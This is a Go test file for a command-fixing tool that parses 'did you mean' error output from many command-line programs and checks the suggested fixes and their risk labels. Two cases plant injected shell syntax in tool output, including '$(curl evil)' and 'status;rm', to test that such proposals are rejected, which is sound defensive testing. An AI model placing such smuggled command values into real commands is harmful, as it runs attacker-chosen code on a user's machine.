package analyze_test

import (
	"context"
	"strings"
	"testing"

	"github.com/hookd/hookd/analyze"
	"github.com/hookd/hookd/analyze/analyzetest"
)

// dymCase is one "did you mean" dialect: the output the tool printed and
// the fix, with the risk it must carry. "real" outputs are those recorded
// in bench/corpus/recorded.jsonl (the id is given); "doc" ones are written
// from the tool's documentation or source.
type dymCase struct {
	name, cmd, out, want string
	risk                 string // the least risk of the first fix
	also                 string // another fix among the three
}

func TestDidYouMeanDialects(t *testing.T) {
	awsOut := "usage: aws [options] <command> <subcommand> [<subcommand> ...] [parameters]\naws: error: argument subcommand: Invalid choice, valid choices are:\n\nls                                       | website                                 \ncp                                       | mv                                      \n\n\nInvalid choice: 'lss', maybe you meant:\n\n  * ls\n\n"
	cases := []dymCase{
		// real: dym-git-1, dym-git-4
		{name: "git", cmd: "git stauts", out: "git: 'stauts' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tstatus\n", want: "git status", risk: analyze.RiskLow},
		{name: "git-several", cmd: "git stat", out: "git: 'stat' is not a git command. See 'git --help'.\n\nThe most similar commands are\n\tstatus\n\tstage\n\tstash\n", want: "git status", also: "git stash", risk: analyze.RiskLow},
		// real: git-amend-dash-1
		{name: "git-dashes", cmd: "git commit -amend", out: "error: did you mean `--amend` (with two dashes)?\n", want: "git commit --amend", risk: analyze.RiskLow},
		// real: git-bisect-typo-1 (git names no candidate: the subcommands of bisect)
		{name: "git-nested", cmd: "git bisect strat", out: "error: unknown subcommand: `strat'\nusage: git bisect--helper --bisect-reset [<commit>]\n", want: "git bisect start", risk: analyze.RiskLow},
		// real: dym-kubectl-1 (cobra)
		{name: "cobra", cmd: "kubectl gte pods", out: "Error: unknown command \"gte\" for \"kubectl\"\n\nDid you mean this?\n\tget\n\n", want: "kubectl get pods", risk: analyze.RiskLow},
		// real: dym-npm-1
		{name: "npm", cmd: "npm instlal lodash", out: "Unknown command: \"instlal\"\n\n\nDid you mean this?\n  npm install # Install a package\nTo see a list of supported npm commands, run:\n  npm help\n", want: "npm install lodash", risk: analyze.RiskLow},
		// real: dym-cargo-1
		{name: "cargo", cmd: "cargo tset", out: "error: no such command: `tset`\n\nhelp: a command with a similar name exists: `test`\n", want: "cargo test", risk: analyze.RiskLow},
		// real: dym-rustup-1 (clap 4)
		{name: "clap", cmd: "rustup toolchain lsit", out: "error: unrecognized subcommand 'lsit'\n\n  tip: a similar subcommand exists: 'list'\n\nUsage: rustup[EXE] toolchain <COMMAND>\n", want: "rustup toolchain list", risk: analyze.RiskMedium},
		// doc: clap 2
		{name: "clap2", cmd: "mdbook biuld", out: "error: The subcommand 'biuld' wasn't recognized\n\tDid you mean 'build'?\n", want: "mdbook build", risk: analyze.RiskMedium},
		// real: dym-pip-1
		{name: "pip", cmd: "pip3 isntall requests", out: "ERROR: unknown command \"isntall\" - maybe you meant \"install\"\n", want: "pip3 install requests", risk: analyze.RiskLow},
		// real: dym-aws-1
		{name: "aws", cmd: "aws s3 lss", out: awsOut, want: "aws s3 ls", risk: analyze.RiskMedium},
		// real: dym-gcloud-1, dym-gcloud-2: the nearest proposal, or a word of them
		{name: "gcloud", cmd: "gcloud comptue instances list", out: "ERROR: (gcloud) Invalid choice: 'comptue'.\nMaybe you meant:\n  gcloud compute instance-groups list-instances\n  gcloud alloydb instances list\n  gcloud compute instances list\n\nTo search the help text of gcloud commands, run:\n  gcloud help -- SEARCH_TERMS\n", want: "gcloud compute instances list", risk: analyze.RiskMedium},
		{name: "gcloud-word", cmd: "gcloud config lsit", out: "ERROR: (gcloud.config) Invalid choice: 'lsit'.\nMaybe you meant:\n  gcloud config configurations activate\n  gcloud config configurations list\n\n", want: "gcloud config list", risk: analyze.RiskMedium},
		// doc: az
		{name: "az", cmd: "az vmm list", out: "az: 'vmm' is not in the 'az' command group. See 'az --help'.\n\nThe most similar choice to 'vmm' is:\n\tvm\n", want: "az vm list", risk: analyze.RiskMedium},
		// real: dym-argparse-1
		{name: "argparse", cmd: "python3 manage.py migarte", out: "usage: manage.py [-h] {migrate,serve,shell} ...\nmanage.py: error: argument cmd: invalid choice: 'migarte' (choose from 'migrate', 'serve', 'shell')\n", want: "python3 manage.py migrate", risk: analyze.RiskMedium},
		// real: dym-hg-2
		{name: "hg", cmd: "hg comit -m wip", out: "hg: unknown command 'comit'\n(did you mean one of commit, incoming?)\n", want: "hg commit -m wip", risk: analyze.RiskLow},
		// real: dym-rake-1
		{name: "rake", cmd: "rake tset", out: "rake aborted!\nDon't know how to build task 'tset' (See the list of available tasks with `rake --tasks`)\nDid you mean?  test\n\n(See full trace by running task with --trace)\n", want: "rake test", risk: analyze.RiskMedium},
		// real: dym-mvn-1 (the java rule knows maven's phases itself: low)
		{name: "maven", cmd: "mvn -o cmpile", out: "[ERROR] Unknown lifecycle phase \"cmpile\". You must specify a valid lifecycle phase or a goal in the format <plugin-prefix>:<goal>. Available lifecycle phases are: validate, initialize, compile, test, package, install, deploy. -> [Help 1]\n", want: "mvn -o compile", risk: analyze.RiskLow},
		{name: "maven-choices", cmd: "mvn -o pakage", out: "[ERROR] Unknown lifecycle phase \"pakage\". You must specify a valid lifecycle phase. Available lifecycle phases are: validate, compile, test, package, install. -> [Help 1]\n", want: "mvn -o package"},
		// doc: gradle
		{name: "gradle", cmd: "gradle biuld", out: "FAILURE: Build failed with an exception.\n\n* What went wrong:\nTask 'biuld' not found in root project 'app'. Some candidates are: 'build', 'buildDependents'.\n", want: "gradle build", risk: analyze.RiskMedium},
		// doc: leiningen
		{name: "lein", cmd: "lein tset", out: "'tset' is not a task. See 'lein help'.\n\nDid you mean this?\n         test\n", want: "lein test", risk: analyze.RiskMedium},
		// doc: fabric 1
		{name: "fab", cmd: "fab deplyo", out: "Warning: Command(s) not found:\n    deplyo\n\nAvailable commands:\n\n    deploy\n    test\n", want: "fab deploy", risk: analyze.RiskMedium},
		// doc: symfony console (composer)
		{name: "symfony", cmd: "php artisan migarte", out: "\n  Command \"migarte\" is not defined.  \n\n  Did you mean this?  \n      migrate  \n", want: "php artisan migrate", risk: analyze.RiskMedium},
		// doc: oclif (heroku)
		{name: "oclif", cmd: "heroku pss", out: " ›   Warning: pss is not a heroku command.\nDid you mean ps? [y/n]: \n", want: "heroku ps", risk: analyze.RiskLow},
		// doc: tsuru
		{name: "tsuru", cmd: "tsuru app-lst", out: "tsuru: \"app-lst\" is not a tsuru command. See \"tsuru help\".\n\nDid you mean?\n\tapp-list\n", want: "tsuru app-list", risk: analyze.RiskMedium},
		// doc: conda
		{name: "conda", cmd: "conda instal numpy", out: "CommandNotFoundError: No command 'conda instal'.\nDid you mean 'conda install'?\n", want: "conda install numpy", risk: analyze.RiskLow},
		// doc: brew
		{name: "brew", cmd: "brew install pyhton", out: "Error: No available formula with the name \"pyhton\". Did you mean python?\n", want: "brew install python", risk: analyze.RiskMedium},
		{name: "brew-old", cmd: "brew install pyhton", out: "Error: No available formula with the name \"pyhton\" \n==> Searching for similarly named formulae...\nThis similarly named formula was found:\npython\nTo install it, run:\n  brew install python\n", want: "brew install python", risk: analyze.RiskMedium},
		// real: dym-terraform-1; doc: yarn 1
		{name: "terraform", cmd: "terraform plna", out: "Terraform has no command named \"plna\". Did you mean \"plan\"?\n", want: "terraform plan", risk: analyze.RiskLow},
		{name: "yarn", cmd: "yarn biuld", out: "yarn run v1.22.19\nerror Command \"biuld\" not found. Did you mean \"build\"?\n", want: "yarn build", risk: analyze.RiskMedium},
		// No proposal printed: the tool's known subcommands. real: dym-go-1,
		// dym-go-2, dym-docker-1, dym-systemctl-1, dym-pyenv-1, dym-apt-1;
		// doc: adb, gem.
		{name: "go", cmd: "go biuld ./...", out: "go biuld: unknown command\nRun 'go help' for usage.\n", want: "go build ./...", risk: analyze.RiskLow},
		{name: "go-mod", cmd: "go mod tidi", out: "go mod: unknown command\nRun 'go help mod' for usage.\n", want: "go mod tidy", risk: analyze.RiskLow},
		{name: "docker", cmd: "docker imgaes", out: "docker: unknown command: docker imgaes\n\nRun 'docker --help' for more information\n", want: "docker images", risk: analyze.RiskLow},
		{name: "systemctl", cmd: "systemctl stauts ssh", out: "Unknown command verb stauts.\n", want: "systemctl status ssh", risk: analyze.RiskLow},
		{name: "pyenv", cmd: "pyenv isntall 3.12.1", out: "pyenv: no such command `isntall'\n", want: "pyenv install 3.12.1", risk: analyze.RiskLow},
		{name: "apt", cmd: "apt-get isntall curl", out: "E: Invalid operation isntall\n", want: "apt-get install curl", risk: analyze.RiskLow},
		{name: "adb", cmd: "adb shel", out: "adb: unknown command shel\n", want: "adb shell", risk: analyze.RiskLow},
		{name: "gem", cmd: "gem isntall rails", out: "ERROR:  While executing gem ... (Gem::CommandLineError)\n    Unknown command isntall\n", want: "gem install rails", risk: analyze.RiskLow},
		// real: systemctl-order-1: the words in the wrong order
		{name: "order", cmd: "systemctl ssh restart", out: "Unknown command verb ssh.\n", want: "systemctl restart ssh", risk: analyze.RiskMedium},
		{name: "order-status", cmd: "systemctl nginx status", out: "Unknown command verb nginx.\n", want: "systemctl status nginx", risk: analyze.RiskLow},
		// A proposal that is not a word is never used.
		{name: "hostile", cmd: "git stauts", out: "git: 'stauts' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tstatus;rm\n", want: "git status", risk: analyze.RiskLow},
		{name: "hostile-command", cmd: "gcloud comptue instances list", out: "ERROR: (gcloud) Invalid choice: 'comptue'.\nMaybe you meant:\n  gcloud compute instances list $(curl evil)\n  gcloud compute instances list\n", want: "gcloud compute instances list", risk: analyze.RiskMedium},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze.Analyze(context.Background(), analyze.Input{Command: tc.cmd, ExitCode: 1, Output: tc.out, Cwd: "/w", Shell: "bash", Env: baseFacts()})
			if len(r.Fixes) == 0 || r.Fixes[0].Command != tc.want {
				t.Fatalf("Analyze(%q) fixes = %+v; want first %q", tc.cmd, r.Fixes, tc.want)
			}
			if got := r.Fixes[0].Risk; rank(got) < rank(tc.risk) || tc.risk == analyze.RiskLow && got != analyze.RiskLow {
				t.Errorf("Analyze(%q) risk = %s; want %s", tc.cmd, got, tc.risk)
			}
			for _, fx := range r.Fixes {
				if strings.ContainsAny(fx.Command, ";$`|&") && !strings.Contains(fx.Command, "&&") {
					t.Errorf("fix %q carries shell syntax from the output", fx.Command)
				}
				if fx.Untrusted && fx.Risk == analyze.RiskLow {
					t.Errorf("fix %q is untrusted but low risk", fx.Command)
				}
			}
			if tc.also != "" {
				ok := false
				for _, fx := range r.Fixes {
					ok = ok || fx.Command == tc.also
				}
				if !ok {
					t.Errorf("Analyze(%q) fixes = %+v; want %q among them", tc.cmd, r.Fixes, tc.also)
				}
			}
		})
	}
}

func rank(risk string) int {
	return map[string]int{analyze.RiskLow: 0, analyze.RiskMedium: 1, analyze.RiskHigh: 2}[risk]
}

// TestDidYouMeanRanking checks that several proposals come best first by
// typo distance, the tool's order breaking ties, and at most three.
func TestDidYouMeanRanking(t *testing.T) {
	out := "hg: unknown command 'stat'\n(did you mean one of stash, status, state, stats?)\n"
	r := analyze.Analyze(context.Background(), analyze.Input{Command: "lein stat", ExitCode: 1, Output: strings.Replace(out, "hg:", "lein:", 1), Cwd: "/w", Env: baseFacts()})
	var got []string
	for _, fx := range r.Fixes {
		got = append(got, fx.Command)
	}
	want := []string{"lein state", "lein stats", "lein stash"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("fixes = %q; want %q", got, want)
	}
}

func TestRulesFamilies(t *testing.T) {
	repo := func(g analyze.GitInfo) func(*analyzetest.Facts) {
		return func(f *analyzetest.Facts) { f.GitRepo = &g }
	}
	nets := files("/sys/class/net/eth0/", "/sys/class/net/lo/", "/sys/class/net/wlan0/")
	runCases(t, []ruleCase{
		// Pasted prompts. real: prompt-pasted-1
		{name: "prompt", cmd: "$ cat notes.txt", exit: 127, out: "bash: $: command not found\n", want: "cat notes.txt"},
		{name: "prompt-zsh", cmd: "% git status", exit: 127, shell: "zsh", out: "zsh: command not found: %\n", want: "git status"},
		// Version managers. real: pyenv-version-1; doc: rbenv, nodenv, goenv
		{name: "pyenv-local", cmd: "pyenv local 3.99.1", out: "pyenv: version `3.99.1' not installed\n", want: "pyenv install 3.99.1", also: "pyenv install 3.99.1 && pyenv local 3.99.1"},
		{name: "rbenv-file", env: exes("rbenv"), cmd: "ruby -v", out: "rbenv: version `3.3.0' is not installed (set by /w/.ruby-version)\n", want: "rbenv install 3.3.0"},
		{name: "nodenv", env: exes("nodenv"), cmd: "node -v", out: "nodenv: version '20.11.0' is not installed (set by /w/.node-version)\n", want: "nodenv install 20.11.0"},
		{name: "goenv", env: exes("goenv"), cmd: "go version", out: "goenv: version '1.22.0' is not installed (set by /w/.go-version)\n", want: "goenv install 1.22.0"},
		// Network devices. real: ip-device-1; doc: ip link set, ifconfig
		{name: "ip-device", cmd: "ip link show eht0", out: "Device \"eht0\" does not exist.\n", env: nets, want: "ip link show eth0"},
		{name: "ip-set", cmd: "sudo ip link set wlan1 up", out: "Cannot find device \"wlan1\"\n", env: nets, want: "sudo ip link set wlan0 up"},
		{name: "ifconfig", cmd: "ifconfig eth1", out: "eth1: error fetching interface information: Device not found\n", env: nets, want: "ifconfig eth0"},
		// Nix (doc).
		{name: "nix", env: exes("nix-shell"), cmd: "cowsay hi", exit: 127, out: "The program 'cowsay' is not in your PATH. It is provided by several packages.\nYou can make it available in an ephemeral shell by typing one of the following:\n  nix-shell -p cowsay\n  nix-shell -p neo-cowsay\n", want: "nix-shell -p cowsay", also: "nix-shell -p neo-cowsay"},
		// Rails (doc).
		{name: "rails-pending", cmd: "bin/rails server", out: "ActiveRecord::PendingMigrationError\n\nMigrations are pending. To resolve this issue, run:\n\n        bin/rails db:migrate RAILS_ENV=development\n", want: "bin/rails db:migrate RAILS_ENV=development"},
		// Package managers that find no such package (doc).
		{name: "dnf", cmd: "sudo dnf install pyhton3", out: "No match for argument: pyhton3\nError: Unable to find a match: pyhton3\n", want: "dnf search pyhton3"},
		{name: "pacman", cmd: "pacman -S pyhton", out: "error: target not found: pyhton\n", want: "pacman -Ss pyhton"},
		{name: "yum", cmd: "yum install nodjs", out: "No package nodjs available.\nError: Nothing to do\n", want: "yum search nodjs"},
		// git long tail. real: git-master-main-1, git-dashdash-1, git-not-merged-1
		{name: "master-main", cmd: "git checkout master", out: "error: pathspec 'master' did not match any file(s) known to git\n", env: repo(analyze.GitInfo{Branch: "main", Branches: []string{"main"}}), want: "git checkout main"},
		{name: "deleted-path", cmd: "git log gone.txt", out: "fatal: ambiguous argument 'gone.txt': unknown revision or path not in the working tree.\nUse '--' to separate paths from revisions, like this:\n'git <command> [<revision>...] -- [<file>...]'\n", env: repo(analyze.GitInfo{Branch: "main", Branches: []string{"main"}}), want: "git log -- gone.txt"},
		// Files. real: ln-order-1, cd-missing-1
		{name: "ln-swapped", cmd: "ln -s current.txt notes.txt", out: "ln: failed to create symbolic link 'notes.txt': File exists\n", env: files("/w/notes.txt"), want: "ln -s notes.txt current.txt"},
		{name: "ln-exists", cmd: "ln -s notes.txt current.txt", out: "ln: failed to create symbolic link 'current.txt': File exists\n", env: files("/w/notes.txt", "/w/current.txt"), want: "ln -sf notes.txt current.txt"},
		{name: "cd-make", cmd: "cd build/out", out: "bash: cd: build/out: No such file or directory\n", want: "mkdir -p build/out && cd build/out"},
		{name: "cd-near-first", cmd: "cd buidl", out: "bash: cd: buidl: No such file or directory\n", env: files("/w/build/"), want: "cd build", also: "mkdir -p buidl && cd buidl"},
		// Tasks from the project's task file (doc: grunt, gulp, fabric 2).
		{name: "grunt", cmd: "grunt biuld", out: "Warning: Task \"biuld\" not found. Use --force to continue.\n\nAborted due to warnings.\n", env: func(f *analyzetest.Facts) {
			f.Files["/w/Gruntfile.js"] = "module.exports = function(grunt) {\n  grunt.loadNpmTasks('grunt-contrib-uglify');\n  grunt.registerTask('build', ['uglify']);\n};\n"
		}, want: "grunt build"},
		{name: "gulp", cmd: "gulp sevre", out: "[10:00:00] Task never defined: sevre\n", env: func(f *analyzetest.Facts) {
			f.Files["/w/gulpfile.js"] = "exports.serve = serve;\nexports.build = build;\n"
		}, want: "gulp serve"},
		{name: "fabric", cmd: "fab deplyo", out: "No idea what 'deplyo' is!\n", env: func(f *analyzetest.Facts) {
			f.Files["/w/fabfile.py"] = "from fabric import task\n\n@task\ndef deploy(c):\n    pass\n"
		}, want: "fab deploy"},
		// just (doc): the generic dialect.
		{name: "just", cmd: "just biuld", out: "error: Justfile does not contain recipe `biuld`.\nDid you mean `build`?\n", want: "just build"},
		// docker push refused (doc).
		{name: "docker-push-denied", cmd: "docker push app:1", out: "The push refers to repository [docker.io/library/app]\ndenied: requested access to the resource is denied\n", want: "docker login && docker push app:1"},
		// Port in use: the holder unknown, say how to find it, no fix.
		{name: "port-in-use-lsof", cmd: "node server.js", out: "Error: listen EADDRINUSE: address already in use :::3000\n", env: func(f *analyzetest.Facts) { f.Exes = append(f.Exes, "lsof") }, want: "", cause: "lsof -i :3000"},
	})
}

// TestFamilyRisks checks the labels of fixes that destroy or that carry the
// output's text.
func TestFamilyRisks(t *testing.T) {
	for _, tc := range []struct{ cmd, out, fix, risk string }{
		{"rm build", "rm: cannot remove 'build': Is a directory\n", "rm -r build", analyze.RiskHigh},
		{"git branch -d feature", "error: The branch 'feature' is not fully merged.\nIf you are sure you want to delete it, run 'git branch -D feature'.\n", "git branch -D feature", analyze.RiskHigh},
		{"python3 calc.py", "ModuleNotFoundError: No module named 'numpyy'\n", "pip install numpyy", analyze.RiskMedium},
		{"ruby -v", "rbenv: version `3.3.0' is not installed (set by /w/.ruby-version)\n", "rbenv install 3.3.0", analyze.RiskMedium},
		{"cowsay hi", "The program 'cowsay' is not installed. You can install it by typing:\n  nix-env -iA nixos.cowsay\n", "nix-env -iA nixos.cowsay", analyze.RiskMedium},
		{"pyenv local 3.99.1", "pyenv: version `3.99.1' not installed\n", "pyenv install 3.99.1", analyze.RiskLow},
	} {
		facts := baseFacts()
		exes("rbenv", "nix-env")(facts)
		r := analyze.Analyze(context.Background(), analyze.Input{Command: tc.cmd, ExitCode: 1, Output: tc.out, Cwd: "/w", Shell: "bash", Env: facts})
		fx, ok := fixFor(r, tc.fix)
		switch {
		case !ok:
			t.Errorf("%s: fixes = %+v; want %q", tc.cmd, r.Fixes, tc.fix)
		case fx.Risk != tc.risk:
			t.Errorf("%s: fix %q risk = %s; want %s", tc.cmd, fx.Command, fx.Risk, tc.risk)
		}
	}
}

// TestDidYouMeanKnown checks that, at the same typo distance, a proposal
// known to exist (here from the user's history) comes first.
func TestDidYouMeanKnown(t *testing.T) {
	out := "rake aborted!\nDon't know how to build task 'tset' (See the list of available tasks with `rake --tasks`)\nDid you mean?  test\n               tsst\n"
	in := analyze.Input{Command: "rake tsst2", ExitCode: 1, Output: strings.ReplaceAll(out, "tset", "tsst2"), Cwd: "/w", Env: baseFacts()}
	r := analyze.Analyze(context.Background(), in)
	if len(r.Fixes) == 0 || r.Fixes[0].Command != "rake tsst" {
		t.Fatalf("fixes = %+v; want rake tsst first (nearer)", r.Fixes)
	}
	in.Output = "lein: unknown command 'stat'\n(did you mean one of stash, stats?)\n"
	in.Command = "lein stat"
	in.History = []analyze.Past{{Command: "lein stats --all", Cwd: "/w"}}
	r = analyze.Analyze(context.Background(), in)
	if len(r.Fixes) == 0 || r.Fixes[0].Command != "lein stats" {
		t.Fatalf("fixes = %+v; want lein stats first (run before)", r.Fixes)
	}
}
